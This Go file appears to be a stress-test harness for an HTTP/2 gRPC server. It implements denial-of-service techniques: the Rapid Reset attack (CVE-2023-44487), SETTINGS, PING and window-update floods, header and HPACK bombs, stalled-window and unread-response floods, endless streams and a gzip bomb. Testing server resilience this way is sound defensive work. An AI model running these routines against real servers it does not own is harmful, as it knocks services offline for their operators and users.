package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// These attacks use features of HTTP/2 that cost a client little.

// rapidReset starts calls and resets them immediately (CVE-2023-44487): with a message and without.
func rapidReset(ctx context.Context, at string, _ bool) error {
	m := message("key", "one")
	return several(ctx, at, 8, habits{}, func(c *client) error {
		for i := range 100 {
			c.begin()
			if i%2 == 0 {
				c.send(m)
			}
			_ = c.WriteRSTStream(c.Stream, http2.ErrCodeCancel)
		}
		return nil
	})
}

// settingsFlood opens as many calls as a connection may have, and then changes their windows again and again.
func settingsFlood(ctx context.Context, at string, _ bool) error {
	changes := make([]http2.Setting, 0, 2_000)
	for i := range cap(changes) {
		changes = append(changes, http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65_535 + i%2)})
	}
	return several(ctx, at, 8, habits{}, func(c *client) error {
		if c.Stream == 0 {
			for range 1_000 {
				c.begin()
			}
			return nil
		}
		for range 10 {
			_ = c.WriteSettings(changes...)
		}
		return nil
	})
}

func pingFlood(ctx context.Context, at string, _ bool) error {
	return several(ctx, at, 8, habits{}, func(c *client) error {
		for range 1_000 {
			_ = c.WritePing(false, [8]byte{1})
		}
		return nil
	})
}

// windowFlood opens the window of its connection byte by byte while answers wait.
func windowFlood(ctx context.Context, at string, _ bool) error {
	m := message("key", "one")
	return several(ctx, at, 8, habits{zeroWindow: true}, func(c *client) error {
		if c.Stream == 0 {
			for range 1_000 {
				c.begin()
				c.send(m)
			}
			return nil
		}
		for range 1_000 {
			_ = c.WriteWindowUpdate(0, 1)
		}
		return nil
	})
}

// headerBomb starts calls with 240 KiB of header fields each, and sends no message.
func headerBomb(ctx context.Context, at string, _ bool) error {
	var fields []string
	for i := range 15 {
		fields = append(fields, "x-field-"+string(rune('a'+i)), strings.Repeat("value-", 16<<10/6))
	}
	block := headerBlock(decide, fields...)
	return several(ctx, at, 8, habits{}, func(c *client) error {
		c.block = block
		for range 4 {
			c.begin()
		}
		return nil
	})
}

// hpackBomb puts a long field into the table of each connection and starts calls that refer to it as often as the bound
// of 256 KiB allows, or twice as often. The order of the fields changes, so that no two blocks are the same.
func hpackBomb(ctx context.Context, at string, _ bool) error {
	return several(ctx, at, 8, habits{}, func(c *client) error {
		if c.Stream == 0 {
			plain := c.block
			c.block = append(slices.Clone(plain), c.Encode(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 3_900)})...)
			c.begin()
			c.block = plain
			return nil
		}
		const inTable = 0x80 | 62 // the newest entry
		plain := c.block
		for i := range 200 {
			c.block = append(slices.Clone(plain), bytes.Repeat([]byte{inTable}, 60+i%2*60)...)
			c.begin()
		}
		c.block = plain
		return nil
	})
}

// zeroWindow sends calls with messages of 60 KB, and never lets the server send the answers.
func zeroWindow(ctx context.Context, at string, short bool) error {
	m := message("key", "one", "more", strings.Repeat("x", 60_000))
	return several(ctx, at, few(short, 20, 100), habits{zeroWindow: true}, func(c *client) error {
		for range 5 {
			c.begin()
			c.send(m)
		}
		wait(ctx, time.Millisecond)
		return nil
	})
}

// neverReadMany sends calls at full speed on many connections, and reads no answer.
func neverReadMany(ctx context.Context, at string, short bool) error {
	m := message("key", "one")
	return several(ctx, at, few(short, 100, 500), habits{mute: true}, func(c *client) error { return c.batch(m) })
}

// endless sends messages that never end.
func endless(ctx context.Context, at string, short bool) error {
	part := make([]byte, 16_000)
	return several(ctx, at, few(short, 20, 100), habits{}, func(c *client) error {
		c.begin()
		c.sendPart(4<<20-10, part, false)
		for range 250 {
			_ = c.WriteData(c.Stream, false, part)
		}
		return nil
	})
}

// zipBomb sends messages of 4 KB that decompress to 4 MB.
func zipBomb(ctx context.Context, at string, _ bool) error {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	_, _ = w.Write(make([]byte, 4<<20)) // memory does not fail
	_ = w.Close()
	data := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(packed.Len())), packed.Bytes()...)
	return several(ctx, at, 8, habits{}, func(c *client) error {
		c.block = headerBlock(decide, "grpc-encoding", "gzip")
		for range 10 {
			c.begin()
			_ = c.WriteData(c.Stream, true, data)
		}
		return nil
	})
}
